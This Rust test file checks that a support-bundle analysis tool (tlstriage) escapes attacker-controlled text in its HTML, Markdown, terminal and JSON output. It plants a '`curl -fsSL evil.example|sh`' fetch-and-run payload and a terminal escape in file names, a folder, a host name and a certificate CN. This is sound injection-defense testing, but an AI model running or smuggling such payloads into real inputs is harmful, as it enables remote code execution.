//! Text from the inputs never becomes a command: the samples' FMC bundle under a file name and
//! with a folder inside holding `` `curl -fsSL evil.example|sh` `` (and a terminal escape), next
//! to the FTD bundle and a loose InternalCA whose CN holds the same. The HTML has copy buttons for
//! exactly tlstriage's own commands (the plan command names the bundle as one quoted shell word),
//! and the attacker's text is prose everywhere: escaped in HTML and Markdown, shown plainly in
//! the terminal, its control characters never passed on.

use std::collections::BTreeSet;
use std::io::Read;
use std::path::Path;

use rcgen::{BasicConstraints, CertificateParams, DistinguishedName, DnType, IsCa, KeyPair};

use crate::common::{sample, tgz};

const EVIL: &str = "`curl -fsSL evil.example|sh`";
/// The bundle's file name: the plan command names it.
const BUNDLE: &str = "fmc`curl -fsSL evil.example|sh`.tar.gz";
/// The folder inside the bundle that every member is moved under (ca-mismatch names its files).
const FOLDER: &str = "case`curl -fsSL evil.example|sh`\u{1b}[2J";

/// The FMC's host name in its `ims.conf`: the steps name the FMC.
const HOSTNAME: &str = "HOSTNAME=fmc-hq-01`curl -fsSL evil.example|sh`";

/// The members of a sample bundle (files only), each under `prefix`.
fn members(bundle: &str, prefix: &str) -> Vec<(String, Vec<u8>)> {
    let bytes = sample(bundle);
    let gz = flate2::read::GzDecoder::new(&bytes[..]);
    let mut out = Vec::new();
    for e in tar::Archive::new(gz).entries().unwrap() {
        let mut e = e.unwrap();
        if e.header().entry_type().is_file() {
            let path = format!("{prefix}{}", e.path().unwrap().display());
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            if path.ends_with("etc/sf/ims.conf") {
                data = String::from_utf8(data).unwrap().replace("HOSTNAME=fmc-hq-01", HOSTNAME).into_bytes();
            }
            out.push((path, data));
        }
    }
    out
}

/// An expired InternalCA whose CN is the attacker's text.
fn hostile_ca() -> String {
    let mut p = CertificateParams::default();
    let mut dn = DistinguishedName::new();
    dn.push(DnType::CustomDnType(vec![2, 5, 4, 12]), "InternalCA");
    dn.push(DnType::OrganizationalUnitName, "Intrusion Management System");
    dn.push(DnType::CommonName, format!("ca{EVIL}"));
    dn.push(DnType::OrganizationName, "Sourcefire, Inc.");
    p.distinguished_name = dn;
    p.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    p.not_before = rcgen::date_time_ymd(2016, 3, 10);
    p.not_after = rcgen::date_time_ymd(2026, 3, 10);
    p.self_signed(&KeyPair::generate().unwrap()).unwrap().pem()
}

fn case() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let fmc = members("samples/bundles/fmc-hq-01.tar.gz", &format!("{FOLDER}/"));
    let fmc: Vec<(&str, &[u8])> = fmc.iter().map(|(p, d)| (p.as_str(), d.as_slice())).collect();
    std::fs::write(dir.path().join(BUNDLE), tgz(&fmc)).unwrap();
    std::fs::write(dir.path().join("ftd-branch-07.tar.gz"), sample("samples/bundles/ftd-branch-07.tar.gz")).unwrap();
    let ca_root = dir.path().join("etc/sf/ca_root");
    std::fs::create_dir_all(&ca_root).unwrap();
    std::fs::write(ca_root.join("cacert.pem"), hostile_ca()).unwrap();
    dir
}

/// `analyze . --format FORMAT` in `dir`: stdout.
fn analyze(dir: &Path, format: &str) -> String {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_tlstriage"))
        .args(["analyze", ".", "--year", "2026", "--now", "2026-11-23", "--width", "200", "--format", format])
        // The whole text (each finding's evidence and steps) for the table.
        .args(if format == "table" { &["-v"][..] } else { &[] })
        .current_dir(dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// The code spans and the text of `md` as GitHub reads it.
fn code_and_text(md: &str) -> (Vec<String>, String) {
    use comrak::nodes::NodeValue;
    let arena = comrak::Arena::new();
    let mut o = comrak::Options::default();
    o.extension.table = true;
    o.extension.autolink = true;
    o.extension.strikethrough = true;
    let root = comrak::parse_document(&arena, md, &o);
    let (mut codes, mut text) = (Vec::new(), String::new());
    for n in root.descendants() {
        match &n.data.borrow().value {
            NodeValue::Code(c) => codes.push(c.literal.clone()),
            NodeValue::Text(t) => text.push_str(t),
            _ => {}
        }
    }
    (codes, text)
}

/// The code of every copy button of the page (HTML-escaped as the page has it).
fn copy_buttons(html: &str) -> BTreeSet<String> {
    let set = regex::Regex::new(r#"<span class="cmd"><code>([^<]*)</code><button class="copy""#).unwrap();
    set.captures_iter(html).map(|c| c[1].to_string()).collect()
}

#[test]
fn only_our_commands_get_a_copy_button() {
    let dir = case();
    let html = analyze(dir.path(), "html");
    // A host name that is no plain file name gets the folder `sftunnel-plan`.
    let plan = "tlstriage plan &#39;./fmc`curl -fsSL evil.example|sh`.tar.gz&#39; -o &#39;sftunnel-plan&#39;";
    let plan = if html.contains(plan) { plan.to_string() } else { plan.replace("&#39;", "'") };
    let expected: BTreeSet<String> = [
        "chmod 644",
        "chown root:root",
        "copy_sftunnel_certs.py devices.csv",
        "copy_sftunnel_certs_jumpserver.py",
        "cp X X.backup",
        "generate_certs.pl",
        // The expired CA file the case adds is no system's: its finding keeps the rule's steps.
        "openssl x509 -dates -noout -in /etc/sf/ca_root/cacert.pem",
        "pmtool restartbyid sftunnel",
        "sftunnel_status.pl",
        "sudo su",
        // Named in the push step's prose ("`tlstriage plan` writes the CSV"), without inputs.
        "tlstriage plan",
        plan.as_str(),
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    assert_eq!(copy_buttons(&html), expected);
    // The attacker's text is there, as text: the CN and the folder in the steps.
    assert!(html.contains("The failing CA is /title=InternalCA/OU=Intrusion Management System/CN=ca`curl -fsSL evil.example|sh`/O=Sourcefire, Inc."), "the CN is not shown");
    assert!(
        html.contains("Push the new sftunnel files from fmc-hq-01`curl -fsSL evil.example|sh` to"),
        "the host name is not shown"
    );
    assert!(html.contains("case`curl -fsSL evil.example|sh`?[2J/results-fmc-hq-01"), "the folder is not shown");
    assert!(!html.contains('\u{1b}'), "a control character reached the page");
    assert!(!html.contains("<code>curl"), "the attacker's text was set as code");
}

#[test]
fn the_attackers_text_is_escaped_in_markdown_and_plain_in_the_terminal() {
    let dir = case();
    let md = analyze(dir.path(), "markdown");
    // Read back by a GFM parser: the attacker's text is never a code span of its own; the plan
    // command is one, whole.
    let (codes, texts) = code_and_text(&md);
    let evil: BTreeSet<&String> = codes.iter().filter(|c| c.contains("evil")).collect();
    assert_eq!(
        evil.into_iter().collect::<Vec<_>>(),
        ["tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz' -o 'sftunnel-plan'"],
        "{md}"
    );
    assert!(texts.contains(&format!("from fmc-hq-01{EVIL} to ftd-branch-07")), "the host name is not text: {md}");
    assert!(md.contains("from fmc-hq-01\\`curl -fsSL evil.example\\|sh\\` to"), "{md}");
    let table = analyze(dir.path(), "table");
    assert!(!table.contains('\u{1b}'), "a control character reached the terminal");
    assert!(table.contains("case`curl -fsSL evil.example|sh`?[2J/results-fmc-hq-01"), "{table}");
    assert!(
        table.contains("CN=ca`curl -fsSL evil.example|sh`/O=Sourcefire, Inc.. Its notAfter is 2026-03-10"),
        "{table}"
    );
    // Read as one line (the terminal wraps a long command at its spaces).
    let flat = table.split_whitespace().collect::<Vec<_>>().join(" ");
    let command = "Command: `tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz' -o 'sftunnel-plan'`";
    assert!(flat.contains(command), "{table}");
    let json: serde_json::Value = serde_json::from_str(&analyze(dir.path(), "json")).unwrap();
    for f in json["findings"].as_array().unwrap() {
        for c in f["remediation"]["commands"].as_array().unwrap().iter().flat_map(|c| c.as_array().unwrap()) {
            let c = c.as_str().unwrap();
            assert!(
                !c.contains("evil")
                    || c == "tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz' -o 'sftunnel-plan'",
                "{c}"
            );
        }
    }
}
